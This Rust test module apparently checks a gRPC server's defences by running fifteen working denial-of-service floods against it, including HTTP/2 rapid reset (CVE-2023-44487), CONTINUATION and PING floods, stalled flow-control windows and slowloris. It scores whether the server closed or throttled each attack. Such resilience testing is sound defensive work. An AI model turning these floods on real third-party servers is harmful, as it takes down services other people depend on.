//! The floods. Each runs until it is told to stop, and reports how the server ended it.

use std::net::SocketAddr;
use std::time::Duration;

use futures::FutureExt as _;
use futures::future::{BoxFuture, join_all};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio_util::sync::CancellationToken;

use super::frames::{
    CALM, CANCEL, CONTINUATION, Connection, DATA, END_STREAM, FRAME_MAX, HEADERS, PING, PREFACE, RST_STREAM, Received,
    SETTINGS, WINDOW, block, connect, frame, headers, opening,
};

/// Longer than every limit of connections in this test, on a busy machine.
const PATIENCE: Duration = Duration::from_mins(1);

/// The attacked server, and a token of another tenant than the bystander's.
#[derive(Clone)]
pub(super) struct Target {
    pub(super) address: SocketAddr,
    pub(super) token: String,
}

/// What became of an attack.
#[derive(Debug, Default)]
pub(super) struct Report {
    /// Frames, requests or connections that were sent.
    pub(super) sent: usize,
    pub(super) received: Vec<Received>,
    /// Why the server did not defend itself as it should.
    pub(super) failure: Option<String>,
}

pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) run: fn(Target, CancellationToken) -> BoxFuture<'static, Report>,
}

macro_rules! attacks {
    ($($name:literal => $run:expr,)*) => {
        [$(Attack { name: $name, run: |target, stop| $run(target, stop).boxed() }),*]
    };
}

pub(super) fn all() -> [Attack; 15] {
    // First those that wait for a limit: they go on while the others begin.
    attacks! {
        "window 0" => |target, stop| windows(target, stop, 0),
        "window 1" => |target, stop| windows(target, stop, 1),
        "slow bodies" => slow_bodies,
        "HTTP/1.1, byte by byte" => slow_http1,
        "PING, never reads" => unread_pings,
        "many connections, silent" => silent,
        "PING" => |target, stop| control(target, stop, frame(PING, 0, 0, &[0; 8])),
        "SETTINGS" => |target, stop| control(target, stop, frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])),
        "rapid reset" => rapid_resets,
        "rapid reset, paced" => paced_resets,
        "CONTINUATION" => |target, stop| continuation(target, stop, FRAME_MAX),
        "CONTINUATION, empty" => |target, stop| continuation(target, stop, 0),
        "DATA, empty" => empty_data,
        "many streams" => many_streams,
        "metadata too large" => large_metadata,
    }
}

fn path(path: &str, authorization: &str) -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", authorization),
    ])
}

const GET: &str = "/storeplane.v1.StoreService/GetStore";
const LIST: &str = "/storeplane.v1.StoreService/ListStores";
const WATCH: &str = "/storeplane.v1.StoreService/WatchStores";

/// Ids of a client's streams.
fn streams(from: u32, count: u32) -> impl Iterator<Item = u32> {
    (from..from + count).map(|at| at * 2 + 1)
}

/// Sends `next` again and again, on a new connection when the server has closed one. Waits for the end of each for at most `patience`.
async fn flood(
    target: &Target,
    stop: &CancellationToken,
    first: &[u8],
    (pause, patience): (Duration, Duration),
    mut next: impl FnMut(u32) -> (usize, Vec<u8>),
) -> Report {
    let mut report = Report::default();
    while !stop.is_cancelled() {
        let Some(mut connection) = Connection::open(target.address, first).await else { continue };
        let mut round = 0;
        while !stop.is_cancelled() {
            let (count, bytes) = next(round);
            let sending = stop.run_until_cancelled(connection.send(&bytes)).await;
            if sending == Some(false) {
                break;
            }
            report.sent += count;
            round += 1;
            tokio::time::sleep(pause).await;
        }
        report.received.push(connection.ended(patience).await);
    }
    report
}

impl Report {
    fn expect(mut self, holds: bool, what: &str) -> Self {
        if !holds {
            self.failure = Some(what.to_owned());
        }
        self
    }

    fn all_closed(&self) -> bool {
        !self.received.is_empty() && self.received.iter().all(|received| received.closed)
    }

    fn goaways(&self, code: u32) -> usize {
        self.received.iter().filter(|received| received.goaway == Some(code)).count()
    }

    fn resets(&self, code: u32) -> usize {
        self.received.iter().filter_map(|received| received.resets.get(&code)).sum()
    }

    fn answered(&self) -> usize {
        self.received.iter().map(|received| received.answered).sum()
    }
}

/// CVE-2023-44487: requests that are cancelled at once, as many as fit into a packet.
async fn rapid_resets(target: Target, stop: CancellationToken) -> Report {
    // `POST http://x/`, by the indexes of HPACK's static table.
    let request = [0x83, 0x86, 0x84, 0x01, 1, b'x'];
    let next = |round: u32| {
        let pairs = streams(round * 5000, 5000).flat_map(|stream| cancelled(stream, &request));
        (5000, pairs.collect())
    };
    let report = flood(&target, &stop, &opening(&[]), (Duration::ZERO, PATIENCE), next).await;
    let calm = report.goaways(CALM);
    report.expect(calm > 0, "no GOAWAY with ENHANCE_YOUR_CALM")
}

/// The same with valid calls, and slow enough for the server to accept each of them: it may do so for as long as it wants.
async fn paced_resets(target: Target, stop: CancellationToken) -> Report {
    let request = path(GET, &format!("Bearer {}", target.token));
    let next = |round: u32| {
        let pairs = streams(round * 100, 100).flat_map(|stream| cancelled(stream, &request));
        (100, pairs.collect())
    };
    flood(&target, &stop, &opening(&[]), (Duration::from_millis(2), Duration::ZERO), next).await
}

fn cancelled(stream: u32, request: &[u8]) -> Vec<u8> {
    [headers(stream, 0, request), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
}

/// Headers that never end.
async fn continuation(target: Target, stop: CancellationToken, size: usize) -> Report {
    let first = [opening(&[]), frame(HEADERS, 0, 1, &path(GET, "Bearer x"))].concat();
    let mut payload = block(&[("x", &"y".repeat(size))]);
    payload.truncate(size);
    let frames = frame(CONTINUATION, 0, 1, &payload).repeat(64);
    let report = flood(&target, &stop, &first, (Duration::ZERO, PATIENCE), |_| (64, frames.clone())).await;
    let closed = report.all_closed();
    report.expect(closed, "a connection stays open")
}

/// Parts of a request's body that have no content.
async fn empty_data(target: Target, stop: CancellationToken) -> Report {
    let authorization = format!("Bearer {}", target.token);
    let first = [opening(&[]), headers(1, 0, &path(GET, &authorization))].concat();
    let frames = frame(DATA, 0, 1, &[]).repeat(1000);
    let report = flood(&target, &stop, &first, (Duration::ZERO, PATIENCE), |_| (1000, frames.clone())).await;
    let ended = report.received.iter().all(|received| received.closed || received.answered > 0);
    let ended = ended && !report.received.is_empty();
    report.expect(ended, "a request's body lasts for ever")
}

/// Frames that the server must acknowledge, on a connection without a request.
async fn control(target: Target, stop: CancellationToken, one: Vec<u8>) -> Report {
    let frames = one.repeat(500);
    let report = flood(&target, &stop, &opening(&[]), (Duration::ZERO, PATIENCE), |_| (500, frames.clone())).await;
    let closed = report.all_closed();
    report.expect(closed, "a connection without a request stays open")
}

/// The same after a request, by a client that reads nothing.
async fn unread_pings(target: Target, _stop: CancellationToken) -> Report {
    let mut report = Report::default();
    let Ok(mut stream) = connect(target.address).await else { return report.expect(false, "no connection") };
    let request = headers(1, END_STREAM, &path(GET, "Bearer x"));
    let _ = stream.write_all(&[opening(&[]), request].concat()).await;
    let frames = frame(PING, 0, 0, &[0; 8]).repeat(500);
    // Once the server cannot answer, it reads no more, and writing waits.
    let flooding = async {
        loop {
            if stream.write_all(&frames).await.is_err() {
                return;
            }
            report.sent += 500;
        }
    };
    let closed = tokio::time::timeout(PATIENCE, flooding).await.is_ok();
    report.expect(closed, "a connection that is not read stays open")
}

/// Responses that the client asks for and does not let through.
async fn windows(target: Target, _stop: CancellationToken, size: u32) -> Report {
    let authorization = format!("Bearer {}", target.token);
    let descriptors =
        block(&[(":method", "GET"), (":scheme", "http"), (":path", "/storeplane.v1.binpb"), (":authority", "x")]);
    let empty = [0; 5];
    let mut bytes = opening(&[(WINDOW, size)]);
    let count = 300;
    for stream in streams(0, count) {
        match stream % 3 {
            0 if size == 0 => {
                bytes.extend(headers(stream, 0, &path(LIST, &authorization)));
                bytes.extend(frame(DATA, END_STREAM, stream, &empty));
            }
            1 => {
                bytes.extend(headers(stream, 0, &path(WATCH, &authorization)));
                bytes.extend(frame(DATA, END_STREAM, stream, &empty));
            }
            _ => bytes.extend(headers(stream, END_STREAM, &descriptors)),
        }
    }
    let mut report = Report { sent: count as usize, ..Report::default() };
    let Some(connection) = Connection::open(target.address, &bytes).await else {
        return report.expect(false, "no connection");
    };
    // A ping a second: the client lives.
    let ping = frame(PING, 0, 0, &[0; 8]);
    report.received.push(connection.send_until_ended(count as usize, &ping, Duration::from_secs(1), PATIENCE).await);
    let ended = report.resets(CANCEL) + report.answered();
    let what = format!("{ended} of {count} responses that nobody reads have ended");
    report.expect(ended == count as usize, &what)
}

/// As many requests at once as the server accepts, on several connections.
async fn many_streams(target: Target, stop: CancellationToken) -> Report {
    let authorization = format!("Bearer {}", target.token);
    let request = path(LIST, &authorization);
    let one = |_| async {
        let mut connection = Connection::open(target.address, &opening(&[])).await?;
        let (mut sent, mut round) = (0, 0);
        while !stop.is_cancelled() {
            let bytes = streams(round * 500, 500)
                .flat_map(|stream| [headers(stream, 0, &request), frame(DATA, END_STREAM, stream, &[0; 5])].concat());
            if !connection.send(&bytes.collect::<Vec<_>>()).await {
                break;
            }
            (sent, round) = (sent + 500, round + 1);
            tokio::time::sleep(Duration::from_millis(400)).await;
        }
        Some((sent, connection.ended(Duration::ZERO).await))
    };
    let mut report = Report::default();
    for (sent, received) in join_all((0..2).map(one)).await.into_iter().flatten() {
        report.sent += sent;
        report.received.push(received);
    }
    report
}

/// Sockets that say a letter, or half a preface, and nothing more. Without a byte the kernel may keep a connection that the server never saw.
async fn silent(target: Target, _stop: CancellationToken) -> Report {
    let one = |at: usize| {
        let target = &target;
        async move {
            let mut stream = connect(target.address).await.ok()?;
            stream.write_all(&PREFACE[..[1, 12][at % 2]]).await.ok()?;
            let reading = async { while stream.read(&mut [0; 64]).await.is_ok_and(|read| read > 0) {} };
            let closed = tokio::time::timeout(PATIENCE, reading).await.is_ok();
            Some(Received { closed, ..Received::default() })
        }
    };
    let received: Vec<_> = join_all((0..200).map(one)).await.into_iter().flatten().collect();
    let report = Report { sent: received.len(), received, failure: None };
    let closed = report.all_closed();
    report.expect(closed, "a silent connection stays open")
}

/// Requests whose bodies arrive a byte at a time.
async fn slow_bodies(target: Target, _stop: CancellationToken) -> Report {
    let request = path(LIST, &format!("Bearer {}", target.token));
    let count = 200;
    let opened = streams(0, count)
        .flat_map(|stream| [headers(stream, 0, &request), frame(DATA, 0, stream, &[0, 0, 1, 0, 0])].concat());
    let first = [opening(&[]), opened.collect()].concat();
    let mut report = Report { sent: count as usize, ..Report::default() };
    let Some(connection) = Connection::open(target.address, &first).await else {
        return report.expect(false, "no connection");
    };
    let bytes: Vec<u8> = streams(0, count).flat_map(|stream| frame(DATA, 0, stream, b"x")).collect();
    // The server ends a connection that goes on sending to streams that have ended.
    let pause = Duration::from_millis(50);
    report.received.push(connection.send_until_ended(count as usize, &bytes, pause, PATIENCE).await);
    let (answered, closed) = (report.answered(), report.all_closed());
    report.expect(
        answered > 0 && (closed || answered == count as usize),
        &format!("{answered} of {count} slow requests have ended"),
    )
}

/// Metadata above the limit of gRPC, above that of HTTP/2, and of many fields.
async fn large_metadata(target: Target, stop: CancellationToken) -> Report {
    let large = |bytes: usize| block(&[("x-large", &"y".repeat(bytes))]);
    let extra = [large(20_000), large(70_000), block(&[("x-many", "y")]).repeat(1900)];
    let authorization = format!("Bearer {}", target.token);
    let blocks = extra.map(|extra| [path(GET, &authorization), extra].concat());
    let next = |round: u32| {
        let requests =
            streams(round * 3, 3).zip(&blocks).flat_map(|(stream, block)| headers(stream, END_STREAM, block));
        (3, requests.collect())
    };
    flood(&target, &stop, &opening(&[]), (Duration::from_millis(1), Duration::ZERO), next).await
}

/// Slowloris: heads, and bodies of grpc-web and Connect.
async fn slow_http1(target: Target, _stop: CancellationToken) -> Report {
    let head = |kind: &str, length: usize| {
        format!(
            "POST {LIST} HTTP/1.1\r\nhost: x\r\ncontent-type: {kind}\r\nauthorization: Bearer {}\r\n\
             content-length: {length}\r\n\r\n",
            target.token
        )
    };
    // The white space is its message, of 4907 bytes.
    let web = head("application/grpc-web+proto", 5000) + "\0\0\0\x13\x2b";
    let json = head("application/json", 5000);
    let begun = ["", web.as_str(), json.as_str()];
    let one = |at: usize| {
        let (target, begun) = (&target, begun[at % 3]);
        async move {
            let (mut read, mut write) = connect(target.address).await.ok()?.into_split();
            write.write_all(begun.as_bytes()).await.ok()?;
            let drip = async {
                // A head's bytes, and JSON's: white space is valid in both places.
                let byte: &[u8] = if begun.is_empty() { b"G" } else { b" " };
                while write.write_all(byte).await.is_ok() {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
            };
            let mut answer = vec![0; 4096];
            let ended = tokio::select! {
                () = drip => true,
                read = tokio::time::timeout(PATIENCE, read.read(&mut answer)) => read.is_ok(),
            };
            Some(Received { closed: ended, ..Received::default() })
        }
    };
    let received: Vec<_> = join_all((0..150).map(one)).await.into_iter().flatten().collect();
    let report = Report { sent: received.len(), received, failure: None };
    let closed = report.all_closed();
    report.expect(closed, "a slow request lasts for ever")
}
